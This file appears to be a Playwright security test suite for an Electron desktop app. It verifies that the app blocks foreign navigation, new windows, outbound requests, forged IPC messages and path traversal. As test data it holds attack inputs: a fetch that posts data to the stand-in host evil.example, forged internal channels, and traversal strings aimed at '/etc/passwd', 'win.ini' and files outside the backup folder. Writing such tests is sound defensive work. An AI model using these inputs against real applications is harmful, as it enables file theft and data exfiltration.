import { readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { channelOf } from '#contract/channel.ts';
import { test } from '#test/support/electron-stand-in/fixture.ts';

const HOME_PAGE = 'app://phuong-an/index.html';
const FOREIGN = 'https://evil.example/trap';

test.describe('leaving the page', () => {
  for (const [how, leave] of Object.entries({
    'a foreign link': (page: Page) => page.click('#foreign'),
    'a script that sets the location': (page: Page) => page.evaluate((to) => location.assign(to), FOREIGN),
    'a form sent abroad by a script': (page: Page) =>
      page.evaluate((to) => {
        const form = document.createElement('form');
        Object.assign(form, { action: to, method: 'post' });
        document.body.append(form);
        form.submit();
      }, FOREIGN),
  }))
    test(`${how} goes nowhere, even without the policy header`, async ({ start }) => {
      const { app, window, page } = await start({ bypassCSP: true });
      await leave(page);
      await expect.poll(() => window.webContents.refused.navigations).toEqual([FOREIGN]);
      expect(window.webContents.getURL()).toBe(HOME_PAGE);
      expect(app.session.leaks).toEqual([]);
    });

  test('another file of our own folder is no page either', async ({ start }) => {
    const { window, page } = await start();
    await page.evaluate(() => location.assign('/page.js'));
    await expect.poll(() => window.webContents.refused.navigations).toEqual(['app://phuong-an/page.js']);
  });

  test('a dropped file is not opened', async ({ start }) => {
    const { app, window, page } = await start();
    const file = join(app.home, 'trap.html');
    await writeFile(file, '<script>document.title = "taken"</script>');
    await window.webContents.dropFile(file);
    await expect.poll(() => window.webContents.refused.navigations).toEqual([`file://${file}`]);
    expect(window.webContents.getURL()).toBe(HOME_PAGE);
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(window.options.webPreferences?.navigateOnDragDrop).toBe(false);
  });
});

test.describe('opening windows', () => {
  for (const [how, open] of Object.entries({
    'window.open': (page: Page) => page.evaluate(() => void window.open('https://evil.example/window')),
    'window.open of our own page': (page: Page) => page.evaluate(() => void window.open('/index.html')),
    'a link with a target': (page: Page) => page.click('#foreign-window'),
  }))
    test(`${how} opens none`, async ({ start }) => {
      const { app, window, page } = await start();
      await open(page);
      await expect.poll(() => window.webContents.refused.windows.length).toBe(1);
      await expect.poll(() => page.context().pages().length).toBe(1);
      expect(app.session.leaks).toEqual([]);
    });
});

test.describe('reaching out', () => {
  const reachOut = (page: Page) =>
    page.evaluate(async () => {
      const image = new Promise((resolve) => {
        const element = new Image();
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('refused');
        element.src = 'https://evil.example/pixel.png';
      });
      const fetched = fetch('https://evil.example/', { method: 'POST', body: 'plan' }).then(
        () => 'answered',
        () => 'refused',
      );
      return Promise.all([image, fetched]);
    });

  test('the policy header stops the page before it asks', async ({ start }) => {
    const { app, page } = await start();
    expect(await reachOut(page)).toEqual(['refused', 'refused']);
    expect(app.session.cancelled).toEqual([]);
    expect(app.session.leaks).toEqual([]);
  });

  test('without the policy header main stops it', async ({ start }) => {
    const { app, page } = await start({ bypassCSP: true });
    expect(await reachOut(page)).toEqual(['refused', 'refused']);
    expect(app.session.cancelled.sort()).toEqual(['https://evil.example/', 'https://evil.example/pixel.png']);
    expect(app.session.leaks).toEqual([]);
  });

  test('WebRTC, which neither of them sees, has no way out', async ({ start }) => {
    const { window } = await start();
    expect(window.webContents.webRtcPolicy).toBe('disable_non_proxied_udp');
  });

  test('a download is refused', async ({ start }) => {
    const { app, page } = await start();
    await page.click('#download');
    await expect.poll(() => app.session.refusedDownloads).toEqual(['app://phuong-an/page.js']);
  });
});

test.describe('forged messages', () => {
  const bytes = new Uint8Array([1]);

  test('a frame inside the page is not heard, not even under the address of our page', async ({ start }) => {
    const { window, page } = await start();
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      // Opening the document anew gives the frame the address of the page that does it.
      frame.contentDocument?.open();
      frame.contentDocument?.close();
    });
    const contents = window.webContents;
    await expect.poll(() => contents.frames.worldsOf('inner').length).toBe(1);
    await expect
      .poll(() => contents.frames.ofWorld(contents.frames.worldsOf('inner')[0] ?? 0)?.url)
      .toBe(HOME_PAGE);
    await expect(contents.forge('inner', channelOf('describeApp'), {})).rejects.toThrow(
      'refused: describeApp from a stranger',
    );
    expect(await contents.forge('main', channelOf('describeApp'), {})).toMatchObject({ shell: 'electron' });
  });

  test('a frame inside the page gets no machine', async ({ start }) => {
    const { page } = await start();
    const names = await page.evaluate(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return Object.keys(frame.contentWindow ?? {}).filter((name) => name.startsWith('phuongAn'));
    });
    expect(names).toEqual([]);
  });

  test('a channel the contract does not have is answered by nobody', async ({ start }) => {
    const { window } = await start();
    for (const channel of ['machine:readFile', 'saveFile', 'machine:__proto__', 'ELECTRON_BROWSER_REQUIRE'])
      await expect(window.webContents.forge('main', channel, {})).rejects.toThrow('No handler registered');
  });

  test('wrong arguments are refused before anything is done', async ({ start }) => {
    const { app, window } = await start();
    for (const [what, channel, args] of [
      ['no argument', 'describeApp', []],
      ['two arguments', 'describeApp', [{}, {}]],
      ['an unknown field', 'describeApp', [{ folder: '/etc' }]],
      ['text for bytes', 'saveFile', [{ kind: 'docx', suggestedName: 'a.docx', bytes: 'text' }]],
      ['an unknown kind', 'saveFile', [{ kind: 'exe', suggestedName: 'a.exe', bytes }]],
      ['a program for a document', 'saveFile', [{ kind: 'docx', suggestedName: 'a.docx.exe', bytes }]],
      ['a path for a name', 'saveFile', [{ kind: 'docx', suggestedName: '../a.docx', bytes }]],
      [
        'a target of its own',
        'saveFile',
        [{ kind: 'docx', suggestedName: 'a.docx', bytes, path: '/srv/a.docx' }],
      ],
      ['no kinds', 'openFiles', [{ kinds: [], multiple: false }]],
      ['a path to open', 'openFiles', [{ kinds: ['docx'], multiple: false, path: '/etc/passwd' }]],
      ['an unknown language', 'setLanguage', [{ language: '../vi' }]],
      ['null', 'readBackup', [null]],
    ] as const)
      await expect(window.webContents.forge('main', channelOf(channel), ...args), what).rejects.toThrow(
        `refused: ${channel} with wrong arguments`,
      );
    expect(app.dialog.shown).toEqual([]);
  });

  test('a backup name with a way out of its folder is neither written nor read', async ({ start }) => {
    const { app, window } = await start();
    for (const name of [
      '../escaped.pabackup',
      String.raw`..\escaped.pabackup`,
      '/srv/escaped.pabackup',
      String.raw`C:\escaped.pabackup`,
      'folder/escaped.pabackup',
      'stream.pabackup:escaped.pabackup',
      'nul.pabackup',
      '.hidden.pabackup',
      '..',
      '',
      'a\u0000.pabackup',
      `${'a'.repeat(151)}.pabackup`,
    ])
      for (const [entry, args] of [
        ['writeBackup', { name, bytes }],
        ['readBackup', { name }],
      ] as const)
        await expect(window.webContents.forge('main', channelOf(entry), args), name).rejects.toThrow(
          `refused: ${entry} with wrong arguments`,
        );
    expect(
      (await readdir(app.home, { recursive: true })).filter((file) => file.includes('.pabackup')),
    ).toEqual([]);
  });

  test('a backup name of another ending is refused, so no other file can be read or planted', async ({
    start,
  }) => {
    const { window } = await start();
    for (const [entry, args] of [
      ['writeBackup', { name: 'start.bat', bytes }],
      ['readBackup', { name: 'desktop.ini' }],
    ] as const)
      expect(await window.webContents.forge('main', channelOf(entry), args)).toEqual({
        status: 'failed',
        code: 'wrong-kind',
      });
  });
});

test('no address of the scheme leaves the folder of the page', async ({ start }) => {
  const { page } = await start();
  const statuses = await page.evaluate(
    (addresses) => Promise.all(addresses.map(async (each) => [each, (await fetch(each)).status])),
    [
      '/..%2fmain/index.js',
      '/%2e%2e%2fmain/index.js',
      '/..%5cmain%5cindex.js',
      '/%2e%2e/main/index.js',
      '/..;/main/index.js',
      '/index.html%00.js',
      '/index.html::$DATA',
      '/../../package.json',
      '/%2fetc%2fpasswd',
      '/C:/Windows/win.ini',
    ],
  );
  for (const [address, status] of statuses) expect(status, String(address)).toBe(404);
  expect(await page.evaluate(async () => (await fetch('/index.html', { method: 'POST' })).status)).toBe(405);
});
